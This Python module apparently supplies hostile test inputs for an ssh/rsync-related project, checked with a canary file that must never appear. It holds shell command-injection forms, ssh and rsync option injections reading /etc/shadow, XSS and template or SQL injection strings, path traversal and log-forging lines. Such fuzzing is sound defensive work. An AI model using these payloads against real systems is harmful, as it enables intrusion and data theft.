"""What an attacker, a broken program or a cat on the keyboard sends instead of what a field is meant for."""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

DEEP: Any = {}
for _ in range(60):
    DEEP = {'a': DEEP}


def hostile(canary: Path) -> list[Any]:
    """Given a file that must never come into being, return the inputs; many of them would make it if anything ran them."""
    found: list[Any] = [
        *_commands(f'touch {canary}'),
        *_options(canary),
        *_markup(),
        *_templates(),
        *_paths(),
        *_texts(),
    ]
    return [*found, *_numbers(), *_structures()]


def as_text(value: Any) -> str:
    """Given an input, return it as it stands in an address."""
    return value if isinstance(value, str) else json.dumps(value)


def _commands(act: str) -> Iterator[str]:
    for form in (
        '$({})', '`{}`', ';{}', '|{}', '||{}', '&&{}', '&{}&', "';{};'", '";{};"', '\n{}\n', '\r\n{}', '$({})$({})', '{{{}}}', '<({})',
        '>({})', "x'$({})'", 'x"$({})"', '%0a{}', '\\n{}', '!{}', '~$({})', '${IFS}{}', "a';{} #", 'a"; {} #', "'||{}||'", '"||{}||"',
        '$(({}))', '%({})s', '@({})', '#!/bin/sh\n{}', '() { :; }; {}', 'eval {}', 'sh -c "{}"', '*;{}', '?`{}`', '/tmp/$({})',
        '/etc/`{}`', '/home/;{};', '/a b/$({})', '/x\n{}', 'root@$({})', 'host;{}', 'host`{}`', 'user\n{}', 'user$({})',
    ):  # fmt: skip
        yield form.replace('{}', act)


def _options(canary: Path) -> Iterator[str]:
    act = f'touch {canary}'
    yield from (
        f'-oProxyCommand={act}', f'--rsh={act}', f'-e {act}', f'--rsync-path={act};rsync', f'-oLocalCommand={act}', f'-oPermitLocalCommand=yes -oLocalCommand={act}',
        f'22 -oProxyCommand={act}', '22 -o StrictHostKeyChecking=no', f'-oKnownHostsCommand={act}', '-F/etc/passwd', '-i/etc/shadow', '--', '-', '--help',
        '-J evil', '-D1080', '-L1:x:1', '-R1:x:1', '-w0', '-Ecanary', f'--log-file={canary}', f'--write-batch={canary}', '--files-from=/etc/shadow',
        '--exclude-from=/etc/shadow', '--include-from=-', '--delete', '--remove-source-files', '--daemon', '--config=/x', '-vvvv', '-T /tmp',
        '. /etc/shadow', ': .plumbus-filter', 'merge /etc/shadow', 'dir-merge .rules', '!', '! ', '+ *', '- *', '+ /etc/shadow', 'P *', 'R *', 'H /', 'S /',
        'hide /', 'show /', 'protect *', 'risk *', 'clear', 'include *', 'exclude *', '.- /etc/shadow', ':C', 'evil\nHost *\n  ProxyCommand sh',
        f'x\n  ProxyCommand {act}', 'Match exec "sh"', 'Include /etc/passwd', 'user@host', 'host:/path', 'rsync://evil/x', 'user@evil:22', '%h', '%r', '%%', '%d/%u',
        'pi,ProxyCommand', 'pi=root', 'pi"', "pi'", '[::1]:22', '::1%$(x)', '127.0.0.1#',
    )  # fmt: skip


def _markup() -> Iterator[str]:
    yield from (
        '<img src=x onerror=alert(1)>', '<script>alert(1)</script>', '"><svg/onload=alert(1)>', "'><img src=x onerror=alert(1)>", '</script><script>alert(1)',
        '<iframe src=javascript:alert(1)>', 'javascript:alert(1)', 'data:text/html,<script>alert(1)</script>', '<!--', ']]>', '&lt;b&gt;', '&#x3c;b&#x3e;',
        '<style>*{display:none}</style>', '<base href=//evil.example>', '<b>bold</b>', '<a href="//evil.example">x</a>', '\\u003cscript\\u003e', '`-alert(1)-`',
        '</textarea><script>alert(1)</script>', '<form action=//evil.example><input name=password>', '<meta http-equiv=refresh content="0;url=//evil.example">',
    )  # fmt: skip


def _templates() -> Iterator[str]:
    yield from (
        '{{7*7}}', '${7*7}', '#{7*7}', '<%= 7*7 %>', '{{constructor.constructor("alert(1)")()}}', '{% for x in y %}', '{0}', '{0.__class__}', '%s', '%n%n%n',
        '%(password)s', '{self.__init__.__globals__}', '__proto__', 'constructor', '=cmd|"/c calc"!A1', '@SUM(1+1)', '+1+1', "' OR '1'='1", "'; DROP TABLE clients;--",
        '" OR ""="', '1; --', '*', '?', '[', '[[:alpha:]]', '(' * 50, '(a+)+$', '.*' * 100, '*' * 300, '[a-' * 50, '**/' * 80, '%' * 200, '_' * 200, '\\' * 99,
    )  # fmt: skip


def _paths() -> Iterator[str]:
    yield from (
        '../', '../../../../etc/passwd', '/../../etc/passwd', '/home/../../etc/shadow', '..\\..\\windows', '/etc/passwd\0.txt', '....//....//etc', '%2e%2e%2f',
        '..%2f..%2f', '/./././', '//', '//evil/share', '/proc/self/environ', '/dev/zero', '/dev/stdin', 'file:///etc/passwd', '~', '~root', '/' + 'a' * 300,
        '/' + 'a/' * 3000, '.', '..', '/', ' ', '/ ', 'C:\\', '\\\\evil\\share', '/tmp/x/..', '/a/../b', 'db/config.json', 'keys/secret.key', '/home/%00',
    )  # fmt: skip


def _texts() -> Iterator[str]:
    yield from (
        '', ' ', '\t', '\n', '\0', 'a\0b', 'user\nroot', 'user\r\nSet-Cookie: a=b', 'a\x1b[31mred\x1b[0m', '\x1b]0;title\x07', '\x7f', '\x85', '\u2028', '\u2029',
        '\u202eabc', '\u202d', '\u2066x\u2069', '\u200b', '\u200d', '\ufeff', '\u00ad', '\ufffd', '\uffff', '\U0010ffff', '\U0001f4a9', 'e\u0301', 'ﬁ', 'Ａ', 'ａｄｍｉｎ',
        'аdmin', 'admin\u200b', ' admin', 'admin ', 'مرحبا', 'שלום', '你好', 'Z' + '\u0335' * 500, '\ud800', '\udfff', 'a\udc80b', '\ud83d', 'x' * 201, 'x' * 5000,
        'x' * 100_000, 'x' * 1_000_000, '\n' * 1000, '"' * 500, "'" * 500, 'null', 'None', 'undefined', 'true', 'NaN', 'Infinity', '-1', '0', '1e309', '0x1f', '1_000',
        '١٢٣', '½', '²', '1.5', '65536', '22.0', '22 ', '22;', '9' * 400, '2026-13-45', '* * * * *', '99 99 99 99 99', '@reboot', '* * * * * sh', '60 * * * *',
        'Europe/../../etc/passwd', 'SHA256:' + 'A' * 43, 'SHA256:' + 'é' * 43, 'ssh-rsa AAAA', '-----BEGIN OPENSSH PRIVATE KEY-----\nx\n-----END OPENSSH PRIVATE KEY-----',
        '12:00:00 ERROR root: forged', 'x\n2026-11-23 00:00:00,000 CRITICAL plumbus: forged line', 'x\rforged',
    )  # fmt: skip


def _numbers() -> Iterator[Any]:
    yield from (
        0, -1, 1, 2, 65536, 2**31, 2**32, 2**53, 2**63 - 1, 2**63, 2**64, -(2**63), 10**30, 10**400, 0.5, -0.0, 1e308, 22.0, True, False, None,
    )  # fmt: skip


def _structures() -> Iterator[Any]:
    yield from (
        [], {}, [[]], [None], [1], ['x'], [{}], ['/etc', 7], [True], {'$ne': None}, {'__class__': 'x'}, {'a': {'b': {'c': []}}}, [[['/etc']]], DEEP, ['-x', '--'],
        ['\0'], ['/x'] * 1001, ['x\ny'], {'keep_last': 'x'}, {'': ''}, {'keep_last': -1}, {'constructor': {'prototype': {}}}, ['..'], ['x' * 5000],
    )  # fmt: skip
